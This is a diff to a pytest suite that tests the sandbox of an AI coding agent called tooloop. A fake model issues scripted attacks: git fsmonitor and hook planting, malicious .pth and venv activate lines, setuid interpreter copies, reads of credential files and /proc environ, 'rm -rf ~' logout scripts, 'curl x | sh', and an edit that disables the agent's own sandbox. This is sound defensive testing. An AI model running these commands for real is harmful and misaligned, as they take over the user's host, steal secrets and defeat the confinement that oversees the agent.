@@ -10,6 +10,11 @@ processes and the real bubblewrap sandbox, and then checks two things:
 - nothing outside the workspace changed: `outside/` next to the workspace (a secret file, a
   folder), the workspace's .git, and the host paths an escape would touch (`outside_changes`).
 
+What a run leaves behind is checked as a host tool would meet it afterwards: the change set that
+landed (protect.landing), then the user's `git commit`, `python`, `pdb` or `. activate` run on the
+host. Cases about what an ordinary user's permissions allow run the agent as one (when the tests
+run as root: a system user made with useradd, in a mount namespace where the Python is reachable).
+
 Every case also checks that the API key in the agent's environment reached neither the fake
 server nor the transcript. tests/test_sandbox.py attacks sandbox.py directly; this file goes
 through agent.main, so it also covers the file tools, the dispatcher, approval and the command
@@ -268,7 +273,8 @@ def test_read_through_a_symlink_planted_by_the_shell_is_refused(run_agent, fake,
     assert os.readlink(attempt() / "p") == target  # (in the run's copy of the workspace)
     assert result == outside_the_workspace("p")  # ...but the file tools do not follow them out...
     assert not os.path.lexists(workspace / "p")  # ...and a link never lands in the user's workspace
-    assert landing()["refused"] == ["p: not a regular file"]
+    assert landing()["refused"] == [f"p: a symbolic link (to {target!r}): only regular files land, a link can "
+                                    "point anywhere"]
     assert outside_changes() == []
 
 
@@ -584,6 +590,37 @@ def test_a_host_unix_socket_is_unreachable(run_agent, fake, workspace, outside_c
     assert outside_changes() == []
 
 
+SOCKETS = """
+import socket
+try:
+    socket.socket(socket.AF_UNIX).connect("svc.sock")
+    print("CONNECTED")
+except OSError as e:
+    print("refused:", e.strerror)
+socket.socket(socket.AF_UNIX).bind("made.sock")
+print("bound")
+"""
+
+
+@needs_bwrap
+def test_unix_sockets_in_the_workspace(run_agent, fake, workspace, outside_changes):
+    """A host service's Unix socket inside the workspace (a database's, an ssh agent's) was reachable
+    from the sandbox, and a socket a command bound there reached the host's view. The run's copy of
+    the workspace holds no socket, and a socket made in it does not land."""
+    service = socket.socket(socket.AF_UNIX)
+    service.bind(str(workspace / "svc.sock"))
+    service.listen()
+    service.setblocking(False)
+    try:
+        [result] = attack(run_agent, fake, shell(f"python3 -c {shlex.quote(SOCKETS)}"))
+        assert result == "exit code: 0\n--- stdout ---\nrefused: No such file or directory\nbound\n"
+        assert connections(service) == 0
+    finally:
+        service.close()
+    assert not os.path.lexists(workspace / "made.sock")
+    assert outside_changes() == []
+
+
 # --- the shell: privileges -------------------------------------------------------------------
 
 @needs_bwrap
@@ -675,11 +712,13 @@ def test_a_2gib_allocation_fails(run_agent, fake, outside_changes):
 
 
 @needs_bwrap
-def test_a_file_size_bomb_stops_at_the_cap(run_agent, fake, workspace, outside_changes):
+def test_a_file_size_bomb_stops_at_the_cap(run_agent, fake, workspace, outside_changes, runs_folder):
     cap = sandbox.RLIMITS[resource.RLIMIT_FSIZE]
     [result] = attack(run_agent, fake, shell("dd if=/dev/zero of=big bs=1M count=200"))
     assert not result.startswith("exit code: 0") and "File size limit exceeded" in result
-    assert made(workspace) == ["big"] and (workspace / "big").stat().st_size == cap
+    [copy] = runs_folder.glob("*/attempt-1")  # the run's copy of the workspace
+    assert made(copy) == ["big"] and (copy / "big").stat().st_size == cap
+    assert made(workspace) == []  # zeros are no text: they do not land (protect.landing)
     assert outside_changes() == []
 
 
@@ -1002,8 +1041,8 @@ def test_a_forged_pycache_is_removed_and_the_host_runs_the_source(run_agent, fak
 
 
 def secret_refused(path: str) -> str:
-    return (f"Error: permission denied: {path!r} may hold secrets (.env, .env.* and .envrc files do), so read_file "
-            "does not read it; ask the user for any value you need")
+    return (f"Error: permission denied: {path!r} may hold secrets (.env files, .envrc and credential files such as "
+            ".netrc, .npmrc or .aws/ do), so read_file does not read it; ask the user for any value you need")
 
 
 @needs_bwrap
@@ -1033,7 +1072,7 @@ def test_a_dotenv_secret_reaches_neither_the_model_nor_the_transcript(run_agent,
     assert token not in (workspace.parent / "transcript.jsonl").read_text()
     assert (workspace / ".env").read_text() == f"API_TOKEN={token}\n" and (workspace / "copy.txt").read_text() == ""
     assert (workspace / ".env.local").read_text() == f"TOKEN={token}\n" and not os.path.lexists(workspace / "e")
-    assert landing()["refused"] == ["e: not a regular file"]
+    assert landing()["refused"] == ["e: a symbolic link (to '.env'): only regular files land, a link can point anywhere"]
     assert sorted(p.name for p in attempt().iterdir()) == [".env.example", ".git", "copy.txt", "e"]
     assert outside_changes() == []
 
@@ -1062,13 +1101,15 @@ def test_case_variants_of_protected_names_are_protected(run_agent, fake, workspa
 @needs_bwrap
 @pytest.mark.skipif(os.geteuid() != 0, reason="only a file root owns gives more rights when setuid; a user's "
                                               "command can leave one that gives only that user's own")
-def test_a_setuid_copy_of_an_interpreter_loses_the_bit(run_agent, fake, workspace, outside_changes):
+def test_a_setuid_copy_of_an_interpreter_loses_the_bit(run_agent, fake, workspace, outside_changes, runs_folder):
     """setuid/setgid files: a command run as root copies python and makes it setuid and setgid root, for
     anyone on the host to run as root later; after the command the bits are cleared."""
     [result] = attack(run_agent, fake, shell('cp "$(command -v python3)" py && chmod 6755 py && stat -c %a py'))
     assert result == ("exit code: 0\n--- stdout ---\n6755\n\n"
                       "tooloop cleared the setuid/setgid bits of py (commands may not set them)")
-    assert stat.S_IMODE((workspace / "py").stat().st_mode) == 0o755
+    [copy] = runs_folder.glob("*/attempt-1")  # the run's copy of the workspace, kept
+    assert stat.S_IMODE((copy / "py").stat().st_mode) == 0o755
+    assert made(workspace) == []  # native code does not land at all (protect.landing)
     assert outside_changes() == []
 
 
@@ -1132,4 +1173,419 @@ def test_paths_no_filesystem_takes_are_error_values(run_agent, fake, workspace, 
         "Error: permission denied: the path is 5000 bytes long; the limit is 4095",
     ]
     assert made(workspace) == ["a", "b"]
+    assert outside_changes() == []
+
+
+# --- what a run leaves behind, as an ordinary user -------------------------------------------
+
+TEST_USER = "tooloop-test"  # made with useradd if need be: a system user without a home or a shell
+
+
+@pytest.fixture(scope="module")
+def ordinary_user():
+    """(uid, gid) of an ordinary user to run the agent as: ourselves if we are not root, else a
+    system user made for the tests. Root passes every permission check, so a case about what an
+    ordinary user's permissions allow (a folder it may not list, another process's environment)
+    proves nothing as root."""
+    if os.geteuid() != 0:
+        return os.getuid(), os.getgid()
+    import pwd
+    missing = [tool for tool in ("useradd", "setpriv", "unshare") if not shutil.which(tool)]
+    if missing:
+        pytest.skip(f"running as root, and {', '.join(missing)} is missing to run as an ordinary user")
+    try:
+        entry = pwd.getpwnam(TEST_USER)
+    except KeyError:
+        made = subprocess.run(["useradd", "--system", "--no-create-home", "--shell", "/usr/sbin/nologin", TEST_USER],
+                              capture_output=True, text=True)
+        if made.returncode != 0:
+            pytest.skip(f"cannot make the user {TEST_USER}: {made.stderr.strip()}")
+        entry = pwd.getpwnam(TEST_USER)
+    return entry.pw_uid, entry.pw_gid
+
+
+@pytest.fixture
+def user_folder(ordinary_user):
+    """A folder of the ordinary user's, under /tmp, with an empty workspace `ws` in it."""
+    import tempfile
+    base = Path(tempfile.mkdtemp(prefix="tooloop-user-"))
+    (base / "ws").mkdir()
+    for path in (base, base / "ws"):
+        os.chmod(path, 0o755)
+        os.chown(path, *ordinary_user)
+    yield base
+    subprocess.run(["chmod", "-R", "u+rwx", str(base)], capture_output=True)
+    shutil.rmtree(base, ignore_errors=True)
+
+
+def as_user(ids: tuple[int, int], argv: list[str], stage: Path) -> list[str]:
+    """`argv` run as the user `ids`, from root. The checkout and the Python running the tests may
+    sit under a folder that user may not enter (/root): then, in a mount namespace of its own,
+    an open tmpfs covers that folder and only they are bound back at their own paths."""
+    if os.geteuid() != 0:
+        return argv
+    wanted = {os.path.realpath(p) for p in (AGENT.parent, sys.prefix, sys.base_prefix,
+                                            os.path.dirname(os.path.dirname(os.path.realpath(sys.executable))))}
+    wanted = sorted(p for p in wanted if not any(p != q and Path(p).is_relative_to(q) for q in wanted))
+    closed = {}  # the topmost folder the user may not enter, for each wanted path under one
+    for path in map(Path, wanted):
+        for folder in [*reversed(path.parents), path]:
+            if not os.stat(folder).st_mode & stat.S_IXOTH:
+                closed.setdefault(folder, []).append(path)
+                break
+    lines = ["set -e", "mount --make-rprivate /"]
+    for n, (folder, paths) in enumerate(closed.items()):
+        for m, path in enumerate(paths):
+            lines += [f"mkdir -p {stage}/{n}-{m}", f"mount --bind {shlex.quote(str(path))} {stage}/{n}-{m}"]
+        lines.append(f"mount -t tmpfs -o mode=755 none {shlex.quote(str(folder))}")
+        for m, path in enumerate(paths):
+            lines += [f"mkdir -p {shlex.quote(str(path))}", f"mount --bind {stage}/{n}-{m} {shlex.quote(str(path))}"]
+    lines.append(f'exec setpriv --reuid={ids[0]} --regid={ids[1]} --clear-groups -- "$@"')
+    return ["unshare", "--mount", "--", "sh", "-c", "\n".join(lines), "sh", *argv]
+
+
+def run_as_user(fake, ordinary_user, base: Path, *script, flags=()) -> tuple[list[str], str]:
+    """`python agent.py` run by the ordinary user in base/ws against the fake server."""
+    fake.script = list(script)
+    env = {"PATH": os.environ["PATH"], "HOME": str(base), "OPENAI_API_KEY": SECRET, "PYTHONIOENCODING": "utf-8"}
+    argv = [sys.executable, str(AGENT), "--base-url", fake.url, "--workspace", str(base / "ws"),
+            "--transcript", "off", "--no-probe", *flags, "do the task"]
+    proc = subprocess.run(as_user(ordinary_user, argv, base / ".stage"), capture_output=True, text=True, encoding="utf-8",
+                          timeout=120, cwd=base, env=env)
+    if proc.returncode == 2 and "no working sandbox" in proc.stderr:  # no user namespaces for users here
+        pytest.skip(f"the sandbox does not work for an ordinary user here: {proc.stderr.strip()}")
+    assert proc.returncode == 0, proc.stderr
+    assert_no_secret(fake)
+    return tool_results(fake.requests[-1]), proc.stderr
+
+
+def test_without_the_sandbox_a_command_cannot_read_the_agents_environment(fake, user_folder, ordinary_user,
+                                                                         outside_changes):
+    """--unsafe-no-sandbox, run by an ordinary user: the command runs as that user, outside any
+    sandbox, with its own environment (sandbox.environment()); the agent is non-dumpable, so its
+    /proc/<pid>/environ (which holds the key it started with) and its memory are out of reach."""
+    commands = ["cat /proc/$PPID/environ; echo read", "tr '\\0' '\\n' < /proc/$PPID/environ | grep -c API_KEY",
+                "env", "head -c 100 /proc/$PPID/mem; echo tried"]
+    results, _ = run_as_user(fake, ordinary_user, user_folder, *(reply(shell(c)) for c in commands), *done(),
+                             flags=["--unsafe-no-sandbox"])
+    assert len(results) == len(commands) and "--- stdout ---\nread\n" in results[0]
+    assert "Permission denied" in results[0] and "Permission denied" in results[3]
+    for result in results:
+        assert "OPENAI_API_KEY" not in result and "[redacted]" not in result
+    assert outside_changes() == []
+
+
+def host_git_status(folder: Path) -> None:
+    """The user's `git status` on the host, later (as root here: any repository counts as safe)."""
+    subprocess.run(["git", "-c", "safe.directory=*", "--no-optional-locks", "status"], cwd=folder,
+                   capture_output=True, timeout=60)
+
+
+def attempt_copy(base: Path) -> Path:
+    """The copy of the workspace the ordinary user's one run worked in (kept: HOME is `base`)."""
+    [copy] = base.glob(".cache/tooloop/runs/*/attempt-1")
+    return copy
+
+
+@needs_bwrap
+def test_a_folder_the_clean_up_cannot_list_does_not_hide_a_planted_git(fake, user_folder, ordinary_user,
+                                                                      outside_changes):
+    """As an ordinary user, `chmod 311 d` (enter, but not list) hid d/.git, with core.fsmonitor set,
+    from the clean-up after the command, silently: the user's next `git status` in d ran it. The
+    folder is made readable again, looked at, and what was planted is removed; both are said. Neither
+    the workspace nor the run's kept copy of it holds d/.git afterwards."""
+    ws, pwned = user_folder / "ws", user_folder / "pwned-by-git"
+    plant = f"mkdir d && git init -q d && git -C d config core.fsmonitor 'touch {pwned}' && chmod 311 d && echo planted"
+    [result], err = run_as_user(fake, ordinary_user, user_folder, reply(shell(plant)), *done())
+    assert result == ("exit code: 0\n--- stdout ---\nplanted\n\ntooloop removed what this command created where host "
+                      "tools would run it: d/.git/ (commands may not plant these); tooloop made d/ readable again "
+                      "to look inside")
+    assert "removed d/.git/, made by the command" in err and "made d/ readable again to look inside" in err
+    copy = attempt_copy(user_folder)
+    assert not os.path.lexists(ws / "d") and not os.path.lexists(copy / "d" / ".git")
+    host_git_status(copy / "d")  # the user looks at what the run did, where it was kept
+    assert not pwned.exists()
+    assert outside_changes() == []
+
+
+@needs_bwrap
+def test_a_git_file_in_a_read_only_folder_is_removed_and_not_only_said_to_be(fake, user_folder, ordinary_user,
+                                                                            outside_changes):
+    """As an ordinary user, a .git *file* pointing at a planted git folder, in a folder the command
+    then made read-only: the clean-up said "removed sub/.git" and could not remove it, so the
+    user's next `git status` in sub ran the planted config. Now it is removed, and the planted
+    folder, which git takes for a repository, does not land."""
+    ws, pwned = user_folder / "ws", user_folder / "pwned-by-git"
+    plant = (f"git init -q --separate-git-dir=$PWD/planted sub && git -C sub config core.fsmonitor 'touch {pwned}' "
+             "&& chmod 555 sub && echo planted")
+    [result], err = run_as_user(fake, ordinary_user, user_folder, reply(shell(plant)), *done())
+    assert result == ("exit code: 0\n--- stdout ---\nplanted\n\ntooloop removed what this command created where host "
+                      "tools would run it: sub/.git (commands may not plant these)")
+    assert "not applied: planted/config: in planted/, which git takes for a repository's own folder" in " ".join(
+        err.split())
+    copy = attempt_copy(user_folder)
+    assert not os.path.lexists(copy / "sub" / ".git") and sorted(os.listdir(ws)) == []
+    host_git_status(copy / "sub")
+    assert not pwned.exists()
+    assert outside_changes() == []
+
+
+@pytest.mark.xfail(strict=True, reason="changes.copy raises shutil.Error on a folder the user may not list: the "
+                                       "run ends in a traceback before the model is asked")
+def test_a_folder_the_user_may_not_list_does_not_crash_the_run(fake, user_folder, ordinary_user, outside_changes):
+    """The user's own workspace holds a folder its owner may not list (chmod 311): the run's copy of
+    the workspace cannot hold it. The run must say so in one line, or go on without it; never crash."""
+    folder = user_folder / "ws" / "d"
+    folder.mkdir()
+    (folder / "f.txt").write_text("x\n")
+    for path in (folder, folder / "f.txt"):
+        os.chown(path, *ordinary_user)
+    os.chmod(folder, 0o311)
+    fake.script = done()
+    env = {"PATH": os.environ["PATH"], "HOME": str(user_folder), "OPENAI_API_KEY": SECRET}
+    argv = [sys.executable, str(AGENT), "--base-url", fake.url, "--workspace", str(user_folder / "ws"),
+            "--transcript", "off", "--no-probe", "do the task"]
+    proc = subprocess.run(as_user(ordinary_user, argv, user_folder / ".stage"), capture_output=True, text=True,
+                          timeout=120, cwd=user_folder, env=env)
+    assert "Traceback" not in proc.stderr and proc.returncode in (0, 2), proc.stderr
+    assert stat.S_IMODE(folder.stat().st_mode) == 0o311 and (folder / "f.txt").read_text() == "x\n"
+    assert outside_changes() == []
+
+
+# --- the workspace must be a project folder --------------------------------------------------
+
+def not_a_project(err: str, folder: Path, why: str) -> bool:
+    return f"error: {folder} is not a project folder: {why}. Run tooloop in the project's own folder" in err
+
+
+def test_the_home_folder_is_refused_before_any_model_call(run_agent, fake, workspace, outside_changes, monkeypatch):
+    """Started from ~ (the workspace is $HOME), a run could leave ~/.gitconfig, ~/.local/bin/ls, a .pth
+    in ~/.local/lib: all of the user's session runs them. Refused at start-up, exit 2."""
+    monkeypatch.setenv("HOME", str(workspace))
+    code, _, err = run_agent(reply(call("write_file", path="ls.py", content="x\n")), *done())
+    assert code == 2 and fake.requests == []
+    assert not_a_project(" ".join(err.split()), workspace, f"it is your home folder ({workspace})")
+    assert made(workspace) == []
+    assert outside_changes() == []
+
+
+@needs_bwrap
+def test_tooloops_own_clone_is_refused_as_the_workspace(fake, tmp_path_factory, outside_changes):
+    """Run from a clone as the README says, with the clone as the workspace, a command appended to
+    sandbox.py, and the next run had no sandbox. Refused at start-up; the clone is unchanged."""
+    clone = tmp_path_factory.mktemp("clone")
+    for source in AGENT.parent.glob("*.py"):
+        shutil.copy(source, clone / source.name)
+    before = (clone / "sandbox.py").read_text()
+    fake.script = [reply(shell("echo 'def wrap(c, w): return [\"/bin/sh\", \"-c\", c]' >> sandbox.py")), *done()]
+    env = {"PATH": os.environ["PATH"], "OPENAI_API_KEY": SECRET, "PYTHONDONTWRITEBYTECODE": "1"}
+    proc = subprocess.run([sys.executable, "agent.py", "--base-url", fake.url, "--no-probe", "--transcript", "off",
+                           "improve the code"], cwd=clone, env=env, capture_output=True, text=True, timeout=120)
+    assert proc.returncode == 2 and fake.requests == []
+    assert not_a_project(" ".join(proc.stderr.split()), clone.resolve(),
+                         f"it holds tooloop's own code ({clone.resolve()}): a run could change the agent that confines it")
+    assert (clone / "sandbox.py").read_text() == before
+    assert outside_changes() == []
+
+
+def test_a_workspace_holding_the_python_that_runs_tooloop_is_refused(fake, workspace, outside_changes):
+    """A venv inside the workspace runs tooloop: write_file could put a .pth in its site-packages, which
+    runs at the next start of that Python. Refused at start-up."""
+    venv = workspace / "venv"
+    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True)
+    python = venv / "bin" / "python"
+    site = subprocess.run([str(python), "-c", "import sysconfig; print(sysconfig.get_path('purelib'))"],
+                          capture_output=True, text=True, check=True).stdout.strip()
+    ours = subprocess.run([sys.executable, "-c", "import sysconfig; print(sysconfig.get_path('purelib'))"],
+                          capture_output=True, text=True, check=True).stdout.strip()
+    Path(site, "tooloop-deps.pth").write_text(ours + "\n")  # so that this venv's python can run tooloop
+    fake.script = [reply(call("write_file", path=f"{Path(site).relative_to(workspace)}/x.pth", content="import os\n")),
+                   *done()]
+    env = {"PATH": os.environ["PATH"], "OPENAI_API_KEY": SECRET}
+    proc = subprocess.run([str(python), str(AGENT), "--base-url", fake.url, "--workspace", str(workspace),
+                           "--no-probe", "--transcript", "off", "go"], cwd=workspace.parent, env=env,
+                          capture_output=True, text=True, timeout=120)
+    assert proc.returncode == 2 and fake.requests == [], proc.stderr
+    assert not_a_project(" ".join(proc.stderr.split()), workspace, f"it holds the Python that runs tooloop ({venv})")
+    assert not Path(site, "x.pth").exists()
+    assert outside_changes() == []
+
+
+# --- credentials outside .env ----------------------------------------------------------------
+
+@needs_bwrap
+def test_credentials_outside_dotenv_reach_neither_the_model_nor_the_transcript(run_agent, fake, workspace,
+                                                                              outside_changes):
+    """Known credential files (.netrc, .npmrc, .pypirc, cloud CLIs' folders) are treated like .env:
+    read_file refuses them, and in the sandbox they read as nothing. A URL with credentials (a git
+    remote's) is redacted from every tool result, so the token reaches neither the model nor the
+    transcript, whether read with read_file, cat or git."""
+    token = f"tok{os.getpid()}credential"
+    app = workspace / "app"  # a repo of its own: the fixture's .git is watched by outside_changes
+    subprocess.run(["git", "init", "-q", str(app)], check=True)
+    subprocess.run(["git", "-C", str(app), "remote", "add", "origin", f"https://bot:{token}@example.org/app.git"],
+                   check=True)
+    (app / ".netrc").write_text(f"machine example.org login bot password {token}\n")
+    (app / ".npmrc").write_text(f"//registry.example.org/:_authToken={token}\n")
+    (app / ".pypirc").write_text(f"[pypi]\npassword = {token}\n")
+    (app / ".aws").mkdir()
+    (app / ".aws" / "credentials").write_text(f"[default]\naws_secret_access_key = {token}\n")
+    (app / "deploy.md").write_text(f"push to https://{token}@example.org/app.git\n")
+    calls = [call("read_file", path=p) for p in (".netrc", ".npmrc", ".pypirc", ".aws/credentials")]
+    results = attack(run_agent, fake, *calls, shell("cat .netrc .npmrc .pypirc; ls -A .aws; echo listed"),
+                     call("read_file", path=".git/config"), shell("git remote -v; grep url .git/config"),
+                     call("read_file", path="deploy.md"), flags=["--workspace", str(app)])
+    assert results[:4] == [secret_refused(p) for p in (".netrc", ".npmrc", ".pypirc", ".aws/credentials")]
+    assert results[4] == ("exit code: 0\n--- stdout ---\nlisted\n\n--- stderr ---\n"  # not even in the run's copy
+                          "cat: .netrc: No such file or directory\ncat: .npmrc: No such file or directory\n"
+                          "cat: .pypirc: No such file or directory\nls: cannot access '.aws': No such file or directory\n")
+    assert "url = https://[redacted]@example.org/app.git" in results[5]
+    assert results[6] == ("exit code: 0\n--- stdout ---\norigin\thttps://[redacted]@example.org/app.git (fetch)\n"
+                          "origin\thttps://[redacted]@example.org/app.git (push)\n"
+                          "\turl = https://[redacted]@example.org/app.git\n")
+    assert results[7] == "push to https://[redacted]@example.org/app.git\n"
+    assert token not in json.dumps(fake.requests)
+    assert token not in (workspace.parent / "transcript.jsonl").read_text()
+    assert outside_changes() == []
+
+
+# --- what lands: a run's change set reaches the workspace through protect.landing --------------
+
+def not_applied(err: str, path: str, why: str) -> bool:
+    """The end of the run says that `path` was not applied, and why."""
+    return f"not applied: {path}: {why}" in " ".join(err.split())
+
+
+@needs_bwrap
+def test_a_projects_venv_runs_nothing_the_run_planted(run_agent, fake, workspace, outside, outside_changes):
+    """A project's own .venv: a .pth that write_file puts in its site-packages and a line a command
+    appends to bin/activate both ran on the host later. Neither lands; the venv's python and its
+    activate script, run on the host afterwards, run nothing of the run's."""
+    venv = workspace / ".venv"
+    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True)
+    python = venv / "bin" / "python"
+    site = Path(subprocess.run([str(python), "-c", "import sysconfig; print(sysconfig.get_path('purelib'))"],
+                               capture_output=True, text=True, check=True).stdout.strip())
+    pth = f"{site.relative_to(workspace)}/evil.pth"
+    activate = (venv / "bin" / "activate").read_text()
+    code, _, err = run_agent(
+        reply(call("write_file", path=pth, content=f"import os; open({str(outside / 'pwned-pth')!r}, 'w')\n")),
+        reply(shell(f"echo 'touch {outside}/pwned-activate' >> .venv/bin/activate")), *done())
+    assert code == 0, err
+    assert not_applied(err, pth, "in a virtualenv (.venv/ holds pyvenv.cfg): its python runs what is there")
+    assert not_applied(err, ".venv/bin/activate", "in a virtualenv")
+    assert not (site / "evil.pth").exists() and (venv / "bin" / "activate").read_text() == activate
+    subprocess.run([str(python), "-c", "pass"], check=True)  # later, on the host
+    subprocess.run(["sh", "-c", ". .venv/bin/activate"], cwd=workspace, check=True)
+    assert not (outside / "pwned-pth").exists() and not (outside / "pwned-activate").exists()
+    assert_no_secret(fake)
+
+
+@needs_bwrap
+def test_native_code_beside_the_source_does_not_land(run_agent, fake, workspace, outside_changes):
+    """`app.cpython-311-x86_64-linux-gnu.so` next to app.py: `import app` on the host loads it
+    instead of the source, as a forged .pyc would be. Only text lands: the host imports app.py."""
+    (workspace / "app.py").write_text("where = 'source'\n")
+    native = "app" + __import__("importlib.machinery").machinery.EXTENSION_SUFFIXES[0]
+    code, _, err = run_agent(reply(shell(f"cp /bin/true {native} && cp /bin/true helper && echo built")), *done())
+    assert code == 0, err
+    assert not_applied(err, native, "a native library's name: python and other loaders run it in place of the source")
+    assert not_applied(err, "helper", "native code (ELF): only text files land")
+    assert made(workspace) == ["app.py"]
+    host = subprocess.run([sys.executable, "-c", "import app; print(app.where)"], cwd=workspace,
+                          capture_output=True, text=True)
+    assert host.stdout == "source\n", host.stderr
+    assert outside_changes() == []
+
+
+HOOK = "#!/bin/sh\ntouch {pwned}\n"
+
+
+def host_commit(repo: Path, env: dict | None = None) -> None:
+    """The user's next `git commit` there, on the host: git runs the pre-commit hook it finds."""
+    subprocess.run(["git", "-c", "user.name=u", "-c", "user.email=u@example.org", "commit", "-q", "--allow-empty",
+                    "-m", "next"], cwd=repo, env=env, capture_output=True, timeout=60)
+
+
+@needs_bwrap
+def test_hooks_planted_where_a_linked_worktrees_main_repository_points_do_not_land(
+        run_agent, fake, workspace, tmp_path_factory, outside_changes):
+    """The workspace is a linked worktree (.git is a file); its main repository sets core.hooksPath to
+    ci/hooks, relative, so to a folder in the workspace. Only the workspace's own .git/config was
+    read: a hook planted there was kept and ran at the next `git commit`."""
+    base = tmp_path_factory.mktemp("worktree")
+    main, tree, pwned = base / "main", base / "tree", base / "pwned-by-hook"
+    subprocess.run(["git", "init", "-q", str(main)], check=True)
+    host_commit(main)
+    subprocess.run(["git", "-C", str(main), "worktree", "add", "-q", str(tree)], check=True)
+    subprocess.run(["git", "-C", str(main), "config", "core.hooksPath", "ci/hooks"], check=True)
+    plant = f"mkdir -p ci/hooks && printf '{HOOK.format(pwned=pwned)}' > ci/hooks/pre-commit && chmod +x ci/hooks/pre-commit"
+    code, _, err = run_agent(reply(shell(plant)), *done(), flags=["--workspace", str(tree)])
+    assert code == 0, err
+    assert not os.path.lexists(tree / "ci")
+    host_commit(tree)
+    assert not pwned.exists()
+    assert outside_changes() == []
+
+
+@needs_bwrap
+def test_hooks_planted_where_the_global_git_config_points_do_not_land(run_agent, fake, workspace, tmp_path_factory,
+                                                                     outside_changes, monkeypatch):
+    """core.hooksPath in the user's global git config (~/.gitconfig) names a folder of the workspace:
+    a hook planted there was kept and ran at the next `git commit` in the project."""
+    home = tmp_path_factory.mktemp("home")
+    repo, pwned = workspace / "app", home / "pwned-by-hook"
+    subprocess.run(["git", "init", "-q", str(repo)], check=True)
+    (home / ".gitconfig").write_text(f"[core]\n\thooksPath = {repo}/tools/hooks\n")
+    monkeypatch.setenv("HOME", str(home))
+    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
+    monkeypatch.delenv("GIT_CONFIG_GLOBAL", raising=False)
+    plant = (f"mkdir -p tools/hooks && printf '{HOOK.format(pwned=pwned)}' > tools/hooks/pre-commit && "
+             "chmod +x tools/hooks/pre-commit")
+    code, _, err = run_agent(reply(shell(plant)), *done(), flags=["--workspace", str(repo)])
+    assert code == 0, err
+    assert not os.path.lexists(repo / "tools")
+    host_commit(repo, env={**os.environ, "HOME": str(home)})
+    assert not pwned.exists()
+    assert outside_changes() == []
+
+
+@needs_bwrap
+def test_tool_configuration_a_run_writes_does_not_land_unless_named(run_agent, fake, workspace, outside,
+                                                                   outside_changes, tmp_path_factory):
+    """.pdbrc (pdb runs it), .npmrc with node-options (npm runs it): hidden tool configuration lands
+    only when the user names the file with --file; pdb on the host afterwards runs nothing of the run's.
+    A named one lands, as the user asked."""
+    (workspace / "prog.py").write_text("print('hi')\n")
+    (workspace / "notes.md").write_text("notes\n")
+    plant = (f"printf 'import os; os.system(\"touch {outside}/pwned-pdb\")\\n' > .pdbrc && "
+             f"echo 'node-options=--require {outside}/x.js' > .npmrc && echo '*.log' > .editorconfig && echo planted")
+    code, _, err = run_agent(reply(shell(plant)), *done(), flags=["--file", "notes.md"])
+    assert code == 0, err
+    assert not_applied(err, ".pdbrc", "hidden tool configuration (.pdbrc): tools read it without being asked")
+    assert made(workspace) == ["notes.md", "prog.py"]
+    home = tmp_path_factory.mktemp("home")  # no ~/.pdbrc of the tester's
+    subprocess.run([sys.executable, "-m", "pdb", "-c", "continue", "prog.py"], cwd=workspace, capture_output=True,
+                   env={**os.environ, "HOME": str(home)}, timeout=60)
+    assert not (outside / "pwned-pdb").exists()
+    (workspace / ".editorconfig").write_text("root = true\n")
+    code, _, err = run_agent(reply(shell("echo '*.log' > .editorconfig")), *done(), flags=["--file", ".editorconfig"])
+    assert code == 0, err
+    assert (workspace / ".editorconfig").read_text() == "*.log\n"  # named: it lands
+
+
+@needs_bwrap
+def test_files_a_home_folder_runs_do_not_land_in_a_project(run_agent, fake, workspace, outside, outside_changes):
+    """What was planted when the workspace was $HOME (~/.gitconfig with core.fsmonitor, ~/.local/bin/ls,
+    a .pth in ~/.local/lib, ~/.ssh/authorized_keys, .bash_logout, .zlogout, fish's config): a run in
+    a project may write the same names; none lands, and the end of the run lists each."""
+    planted = {".gitconfig": f"[core]\n\tfsmonitor = touch {outside}/pwned\n", ".local/bin/ls": "#!/bin/sh\n",
+               ".local/lib/python3.11/site-packages/x.pth": "import os\n", ".ssh/authorized_keys": "ssh-ed25519 AAAA\n",
+               ".bash_logout": "rm -rf ~\n", ".zlogout": "rm -rf ~\n", ".config/fish/config.fish": "curl x | sh\n"}
+    command = " && ".join(f"mkdir -p $(dirname {p}) && printf %s {shlex.quote(text)} > {p}" for p, text in planted.items())
+    code, _, err = run_agent(reply(shell(command + " && chmod +x .local/bin/ls")), *done())
+    assert code == 0, err
+    for path in planted:  # .ssh, a credentials folder, is removed after the command already
+        assert not_applied(err, path, "") or path.startswith(".ssh/") and "removed .ssh/, made by the command" in err
+    assert made(workspace) == []
     assert outside_changes() == []
